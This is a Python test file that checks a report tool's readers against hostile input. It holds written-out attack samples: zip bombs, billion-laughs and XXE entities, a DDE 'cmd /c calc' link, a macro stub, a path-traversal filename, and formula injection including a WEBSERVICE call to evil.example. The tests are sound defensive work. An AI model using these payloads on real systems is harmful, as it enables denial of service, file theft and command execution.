"""Hostile input: each protection the readers and the report writer promise, proven by a test that fails
without it.

Covered elsewhere (not repeated here): a zip bomb, a member whose declared size lies, shrunk limits,
nesting deeper than three containers and sanitised zip-member names in tests/test_inputs.py
(test_zip_bomb_is_refused, test_highly_compressed_member_under_the_size_limit_is_refused,
test_declared_size_is_not_trusted, test_total_and_member_limits_can_be_shrunk,
test_nesting_deeper_than_three_containers_is_not_opened, test_zip_member_names_are_sanitised,
test_safe_name, test_eml_inline_part_with_filename_is_a_candidate_and_attachment_names_are_sanitised);
census XML entity attacks read directly in tests/test_exports_census.py
(test_entity_expansion_attack_is_refused, test_external_entity_is_refused).
"""
from __future__ import annotations

import builtins
import hashlib
import os
import re
import socket
import stat
import subprocess
import sys
import time
import zipfile
from datetime import date
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path

import openpyxl
import pytest

from pqa_desktop.core.calendar import Period
from pqa_desktop.core.findings import FindingSink, Severity
from pqa_desktop.core.inputs.archives import SEP, ArchiveLimits
from pqa_desktop.core.inputs.discover import discover
from pqa_desktop.core.inputs.tables import read_tables
from pqa_desktop.core.pipeline.run import BuildOptions, analyse, build
from pqa_desktop.core.report.writer import WORKBOOK_OPTIONS
from pqa_desktop.core.returns.reader import read_return
from pqa_desktop.core.returns.templates import return_bytes
from tests import fuzz_support as fz

PERIOD = Period(date(2024, 9, 1))
SECRET = "TOPSECRET-MARKER-7731"


def _zip(members) -> bytes:
    return fz.zip_of(members)


def _with_parts(xlsx: bytes, **changes) -> bytes:
    """The package with parts replaced (bytes) or edited (a function of the old bytes); names use
    '__' for '/' and '_dot_' for '.'."""
    members = dict(fz.zip_members(xlsx))
    for key, change in changes.items():
        name = key.replace("__", "/").replace("_dot_", ".")
        members[name] = change(members.get(name, b"")) if callable(change) else change
    return _zip(members)


def _cell_of(xlsx: bytes, field: str) -> str:
    """The cell a return's defined name pqa_<field> points at ("B20")."""
    workbook = dict(fz.zip_members(xlsx))["xl/workbook.xml"].decode()
    target = re.search(rf'<definedName name="pqa_{field}">[^<]*!\$([A-Z]+)\$(\d+)</definedName>', workbook)
    return target.group(1) + target.group(2)


def _replace_cell(xlsx: bytes, cell: str, new_xml: str) -> bytes:
    def edit(sheet: bytes) -> bytes:
        pattern = rf'<c r="{cell}"[^>]*?(/>|>.*?</c>)'.encode()
        assert re.search(pattern, sheet), cell
        return re.sub(pattern, new_xml.encode(), sheet, count=1)
    return _with_parts(xlsx, xl__worksheets__sheet1_dot_xml=edit)


def _rules(result) -> list[str]:
    return [f.rule for f in result.findings]


def _all_text(result) -> str:
    return repr(result)


# ---------------------------------------------------------------- zip bombs


def test_nested_zip_bomb_shares_one_budget_across_levels(tmp_path):
    """Zips inside a zip cannot multiply the limits: one budget of bytes and members covers every level."""
    layer = 300_000  # each member compresses ~1000:1 but stays under the 1 MB ratio floor
    inner = [_zip({f"part {i}-{j}.csv": bytes([65 + i]) * layer + bytes([j]) for j in range(4)}) for i in range(4)]
    path = tmp_path / "bomb.zip"
    path.write_bytes(_zip({f"inner {i}.zip": data for i, data in enumerate(inner)}))
    assert path.stat().st_size < 50_000  # 4.8 MB unpacked from a few kB

    files, findings = discover([path], limits=ArchiveLimits(max_total_bytes=2_000_000))
    unpacked = sum(len(f.data) for f in files)
    # 4 inner zips (a few kB) + 6 x 300,001 bytes fit in 2,000,000; the 7th member breaks the budget, so
    # inner 1 stops there and inners 2 and 3 cannot unpack even their first member.
    assert unpacked <= 2_000_000 and len(files) == 6
    refused = ["bomb.zip" + SEP + f"inner {i}.zip" for i in (1, 2, 3)]
    assert [(f.file, f.severity, f.rule) for f in findings] == [(r, Severity.ERROR, "input.zip_refused") for r in refused]

    # 10 members: the 4 outer entries and inner 0's 4 leave 2, fewer than any further inner zip holds.
    files, findings = discover([path], limits=ArchiveLimits(max_members=10))
    assert [f.name for f in files] == ["bomb.zip" + SEP + "inner 0.zip" + SEP + f"part 0-{j}.csv" for j in range(4)]
    assert [(f.file, f.rule) for f in findings] == [(r, "input.zip_refused") for r in refused]


def test_workbook_whose_sheet_is_a_zip_bomb_is_refused():
    """An .xlsx is a zip too: a sheet of 5 MB of compressed blanks is refused before the cell reader
    unpacks it (the same ratio limit as a dropped zip)."""
    bomb = _with_parts(fz.case_return(), xl__worksheets__sheet1_dot_xml=lambda x: x.replace(
        b"<sheetData>", b"<sheetData>" + b" " * (5 * 2**20), 1))
    assert len(bomb) < 100_000
    result = read_return(fz.input_file("Audit.xlsx", bomb))
    assert result.kind == "unreadable" and _rules(result) == ["file.refused"]
    assert "zip bomb" in result.findings[0].message


# ---------------------------------------------------------------- XML entity attacks

LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10))
          + b"]>")


def _after_prolog(doctype: bytes, reference: bytes, find: bytes):
    def edit(xml: bytes) -> bytes:
        end = xml.index(b"?>") + 2
        return xml[:end] + doctype + xml[end:].replace(find, reference, 1)
    return edit


@pytest.mark.parametrize("part, find", [
    ("xl__sharedStrings_dot_xml", b"<t>Slow to call back.</t>"),
    ("xl__workbook_dot_xml", b"<sheets>"),
])
@pytest.mark.parametrize("attack", ["billion laughs", "external entity"])
def test_xml_entities_in_a_workbook_part_are_refused_not_expanded(tmp_path, part, find, attack):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    if attack == "billion laughs":
        doctype, reference = LAUGHS, b"&lol9;"
    else:
        doctype, reference = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>'.encode(), b"&xxe;"
    reference = (b"<t>" + reference + b"</t>") if find.startswith(b"<t>") else reference + find
    data = _with_parts(fz.case_return(), **{part: _after_prolog(doctype, reference, find)})
    started = time.perf_counter()
    result = read_return(fz.input_file("Audit.xlsx", data))
    assert time.perf_counter() - started < 2
    assert result.kind == "unreadable" and _rules(result) == ["file.refused"]
    assert "entities" in result.findings[0].message
    assert "lollollol" not in _all_text(result) and SECRET not in _all_text(result)


@pytest.mark.parametrize("attack", ["billion laughs", "external entity"])
def test_xml_entities_in_the_census_are_refused_through_the_pipeline(tmp_path, attack):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    doctype = (LAUGHS.replace(b"lolz", b"Message") if attack == "billion laughs"
               else f'<!DOCTYPE Message [<!ENTITY xxe SYSTEM "file://{secret}">]>'.encode())
    reference = b"&lol9;" if attack == "billion laughs" else b"&xxe;"
    census = (b'<?xml version="1.0"?>' + doctype + b"<Message><Header><CollectionDetails><Collection>CSWW"
              b"</Collection><ReferenceDate>2024-09-30</ReferenceDate></CollectionDetails></Header>"
              b"<CSWWWorker><SWENo>" + reference + b"</SWENo><FTE>1</FTE></CSWWWorker></Message>")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "census.xml").write_bytes(census)
    analysis = analyse([folder], PERIOD)
    assert [(f.severity, f.rule) for f in analysis.findings if f.file == "census.xml"] == [
        (Severity.ERROR, "export.xml_unsafe")]
    assert not analysis.exports
    assert "lollollol" not in repr(analysis.results) and SECRET not in repr(analysis.results)


# ---------------------------------------------------------------- oversized sheets

_FAR_CELL = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'


def test_one_cell_at_the_far_corner_is_refused_not_allocated(tmp_path):
    """A 10 kB workbook with one cell at XFD1048576 asks the cell reader for 17 billion cells; native code
    aborts the whole process when that allocation fails, so it is read in a child process here: without
    the protection the child dies instead of reporting a finding."""
    path = tmp_path / "far.xlsx"
    path.write_bytes(_with_parts(fz.case_return(),
                                 xl__worksheets__sheet1_dot_xml=lambda x: x.replace(b"</sheetData>", _FAR_CELL)))
    assert path.stat().st_size < 20_000
    code = ("import sys, hashlib; from pqa_desktop.core.records import InputFile;"
            "from pqa_desktop.core.returns.reader import read_return;"
            "d = open(sys.argv[1], 'rb').read();"
            "r = read_return(InputFile('far.xlsx', d, hashlib.sha256(d).hexdigest()));"
            "print(r.kind, [f.rule for f in r.findings])")
    child = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=120,
                           cwd=Path(__file__).resolve().parents[1])
    assert child.returncode == 0, child.stderr[-2000:]
    assert child.stdout.strip() == "unreadable ['file.refused']"


def _sheet_of(rows: int, cols: int, path: Path) -> Path:
    wb = openpyxl.Workbook()
    for r in range(1, rows + 1):
        for c in range(1, cols + 1):
            wb.active.cell(r, c, r * c)
    wb.save(path)
    return path


def test_sheet_over_the_cell_limit_is_refused_and_a_large_one_is_read_in_part(tmp_path):
    """The limit is a parameter (50 cells here). Far over it (over 4 times: 300 cells) the file is refused
    before the cell reader allocates anything; a little over it (120 cells) the first rows are read."""
    sink = FindingSink("big.xlsx")
    assert read_tables(fz.input_file("big.xlsx", _sheet_of(100, 3, tmp_path / "a.xlsx").read_bytes()),
                       sink, max_cells=50) == []
    assert [(f.severity, f.rule) for f in sink.findings] == [(Severity.ERROR, "file.refused")]
    assert "more than 200 cells" in sink.findings[0].message  # 4 x the 50-cell limit

    sink = FindingSink("mid.xlsx")
    [table] = read_tables(fz.input_file("mid.xlsx", _sheet_of(40, 3, tmp_path / "b.xlsx").read_bytes()),
                          sink, max_cells=50)
    assert len(table.rows) == 16  # 50 cells // 3 columns
    assert [(f.severity, f.rule) for f in sink.findings] == [(Severity.WARNING, "file.sheet_truncated")]


def test_declared_dimension_alone_is_not_trusted():
    """A <dimension> claiming the whole grid over a small sheet costs nothing and is read normally."""
    data = _with_parts(fz.case_return(), xl__worksheets__sheet1_dot_xml=lambda x: re.sub(
        rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', x))
    result = read_return(fz.input_file("Audit.xlsx", data))
    assert result.kind == "case_file_audit" and result.findings == []


# ---------------------------------------------------------------- formulas, macros, links


@pytest.fixture
def no_network_or_processes(monkeypatch):
    """Any attempt to open a connection, resolve a name or start a program fails the test."""
    attempts: list[str] = []

    def refuse(what):
        def blocked(*args, **kwargs):
            attempts.append(what)
            raise AssertionError(f"reading an input tried to use {what}")
        return blocked

    # The readers run in this process, where the guards below are (a reading process is started through
    # multiprocessing, whose own pipes are no network, but a fork server's are sockets).
    monkeypatch.setenv("PQA_READ_WORKERS", "1")
    monkeypatch.setattr(socket, "socket", refuse("socket.socket"))
    monkeypatch.setattr(socket, "create_connection", refuse("socket.create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("socket.getaddrinfo"))
    monkeypatch.setattr(subprocess, "Popen", refuse("subprocess.Popen"))
    monkeypatch.setattr(os, "system", refuse("os.system"))
    yield attempts
    assert attempts == []


def test_formulas_are_never_evaluated(no_network_or_processes):
    """The cached value is what is read (the formula would give another grade); a formula with no cached
    value reads as blank, and nothing, not even a WEBSERVICE call, is run."""
    data = fz.case_return()
    overall, feedback = _cell_of(data, "overall"), _cell_of(data, "feedback_text")
    data = _replace_cell(data, overall, f'<c r="{overall}" t="str"><f>IF(1,"Inadequate","Good")</f>'
                                        "<v>Requires improvement</v></c>")
    data = _replace_cell(data, feedback, f'<c r="{feedback}"><f>WEBSERVICE("http://evil.example/steal")</f></c>')
    result = read_return(fz.input_file("Audit.xlsx", data))
    [audit] = result.audits
    assert audit.grades["overall"] == "Requires improvement"
    assert audit.feedback is None or not audit.feedback.text
    assert "evil.example" not in repr(result)


def _as_xlsm(xlsx: bytes, vba: bytes) -> bytes:
    """The return saved as a macro-enabled workbook carrying a VBA project."""
    content_types = lambda x: x.replace(  # noqa: E731
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    rels = lambda x: x.replace(b"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.microsoft.com/'  # noqa: E731
                                                    b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                                                    b"</Relationships>")
    return _with_parts(xlsx, **{"[Content_Types]_dot_xml": content_types, "xl___rels__workbook_dot_xml_dot_rels": rels,
                                "xl__vbaProject_dot_bin": vba})


def test_macros_are_never_run(no_network_or_processes):
    """An .xlsm with a VBA project (Auto_Open shelling out) is read as data only: the same audit as
    the .xlsx, the project's bytes never opened, nothing started."""
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name\x00Sub Auto_Open()\x00Shell \"calc.exe\"\x00" * 20
    xlsm = _as_xlsm(fz.case_return(), vba)
    assert "xl/vbaProject.bin" in dict(fz.zip_members(xlsm))
    plain = read_return(fz.input_file("Audit.xlsx", fz.case_return()))
    macro = read_return(fz.input_file("Audit.xlsm", xlsm))
    assert macro.kind == "case_file_audit" and macro.findings == []
    assert [(a.reference, a.grades, a.overall) for a in macro.audits] == \
           [(a.reference, a.grades, a.overall) for a in plain.audits]


def _with_external_links(xlsx: bytes) -> bytes:
    """An external workbook link (to a web address), a DDE link and a formula using both, as Excel writes them."""
    link = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.'
            b'openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="S"/>'
            b"</sheetNames></externalBook></externalLink>")
    link_rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
                 b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                 b'openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
                 b'Target="http://evil.example/book.xlsx" TargetMode="External"/></Relationships>')
    dde = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.'
           b'openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
           b'<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>')
    content = lambda x: x.replace(b"</Types>", b"".join(  # noqa: E731
        b'<Override PartName="/xl/externalLinks/externalLink%d.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.externalLink+xml"/>' % i for i in (1, 2)) + b"</Types>")
    rels = lambda x: x.replace(b"</Relationships>", b"".join(  # noqa: E731
        b'<Relationship Id="rId9%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'externalLink" Target="externalLinks/externalLink%d.xml"/>' % (i, i) for i in (1, 2)) + b"</Relationships>")
    workbook = lambda x: x.replace(b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rId91"/>'  # noqa: E731
                                                 b'<externalReference r:id="rId92"/></externalReferences>')
    data = _with_parts(xlsx, **{"[Content_Types]_dot_xml": content, "xl___rels__workbook_dot_xml_dot_rels": rels,
                                "xl__workbook_dot_xml": workbook,
                                "xl__externalLinks__externalLink1_dot_xml": link,
                                "xl__externalLinks___rels__externalLink1_dot_xml_dot_rels": link_rels,
                                "xl__externalLinks__externalLink2_dot_xml": dde})
    team = _cell_of(data, "team")
    return _replace_cell(data, team, f'<c r="{team}" t="str"><f>[1]S!A1&amp;cmd|\'/c calc\'!A0</f>'
                                     "<v>Team A</v></c>")


def test_external_and_dde_links_are_not_followed(tmp_path, no_network_or_processes):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "Audit.xlsx").write_bytes(_with_external_links(fz.case_return()))
    analysis = analyse([folder], PERIOD)
    [(item, result)] = analysis.results
    assert result.kind == "case_file_audit"
    assert result.audits[0].team == "Team A"  # the cached value, not a fetched one


def test_hostile_attachment_names_are_sanitised(tmp_path):
    """An encoded-word file name that decodes to a path escape keeps only its base name; nothing is written."""
    message = EmailMessage()
    message["Subject"] = "Audits"
    message.set_content("Attached.")
    message.add_attachment(fz.register_csv(), maintype="text", subtype="csv", filename="x.csv")
    raw = message.as_bytes(policy=SMTP).replace(b'filename="x.csv"', b'filename="=?utf-8?b?Li4vLi4vZXZpbC5jc3Y=?="')
    path = tmp_path / "mail.eml"
    path.write_bytes(raw)
    files, findings = discover([path])
    assert [f.name for f in files] == ["mail.eml" + SEP + "evil.csv"] and findings == []
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["mail.eml"]


# ---------------------------------------------------------------- output: text is never a formula

FORMULA_LIKE = ["=HYPERLINK(\"http://evil.example\",\"Click\")", "+44 7700 900123 call back", "-2+3 late visits",
                "@SUM(A1:A9) was mentioned"]


def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
    assert WORKBOOK_OPTIONS["strings_to_formulas"] is False and WORKBOOK_OPTIONS["strings_to_urls"] is False
    folder = tmp_path / "in"
    folder.mkdir()
    for i, text in enumerate(FORMULA_LIKE):
        values = dict(fz.CASE_VALUES, case_ref=f"CR-{9000 + i}", feedback_text=text)
        name = ["=cmd audit.xlsx", "+1 audit.xlsx", "-2 audit.xlsx", "@3 audit.xlsx"][i]
        (folder / name).write_bytes(return_bytes("case_file_audit", values))
    out = tmp_path / "report.xlsx"
    build([folder], out, BuildOptions(period=PERIOD, produced=date(2024, 10, 1)))

    with zipfile.ZipFile(out) as package:
        sheets = {n: package.read(n) for n in package.namelist() if n.startswith("xl/worksheets/sheet")}
    assert sheets and not any(re.search(rb"<f[ >]", xml) for xml in sheets.values())
    book = openpyxl.load_workbook(out)
    found = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in FORMULA_LIKE:
                    found[cell.value] = cell.data_type
    assert found == {text: "s" for text in FORMULA_LIKE}


# ---------------------------------------------------------------- inputs are read-only


def test_inputs_are_opened_read_only_and_left_unchanged(tmp_path, monkeypatch):
    folder = tmp_path / "in"
    folder.mkdir()
    inputs = {"Audit 1.xlsx": fz.case_return(), "Tracker.csv": fz.register_csv(), "Audits.eml": fz.returns_eml(),
              "returns.zip": fz.returns_zip(), "Contacts export.csv": fz.annex_a_csv()}
    for name, data in inputs.items():
        (folder / name).write_bytes(data)
        os.chmod(folder / name, 0o444)
    before = {p.name: (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime_ns) for p in folder.iterdir()}

    write_flags = os.O_WRONLY | os.O_RDWR | os.O_APPEND | os.O_CREAT | os.O_TRUNC
    opened: list[tuple[str, str]] = []
    real_os_open, real_open = os.open, builtins.open

    def os_open(path, flags, *args, **kwargs):
        if str(path).startswith(str(folder)):
            opened.append((Path(path).name, "write" if flags & write_flags else "read"))
        return real_os_open(path, flags, *args, **kwargs)

    def py_open(file, mode="r", *args, **kwargs):
        if isinstance(file, (str, os.PathLike)) and str(file).startswith(str(folder)):
            opened.append((Path(file).name, "write" if set(mode) & set("wax+") else "read"))
        return real_open(file, mode, *args, **kwargs)

    monkeypatch.setattr(os, "open", os_open)
    monkeypatch.setattr(builtins, "open", py_open)
    try:
        analysis = analyse([folder], PERIOD)
    finally:
        monkeypatch.undo()
        for p in folder.iterdir():
            os.chmod(p, stat.S_IRUSR | stat.S_IWUSR)
    assert {kind for _, r in analysis.results for kind in [r.kind]} >= {"case_file_audit", "audit_register",
                                                                       "edt_dip_sample", "system_export"}
    assert sorted({name for name, _ in opened}) == sorted(inputs)
    assert {mode for _, mode in opened} == {"read"}
    after = {p.name: (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime_ns) for p in folder.iterdir()}
    assert after == before
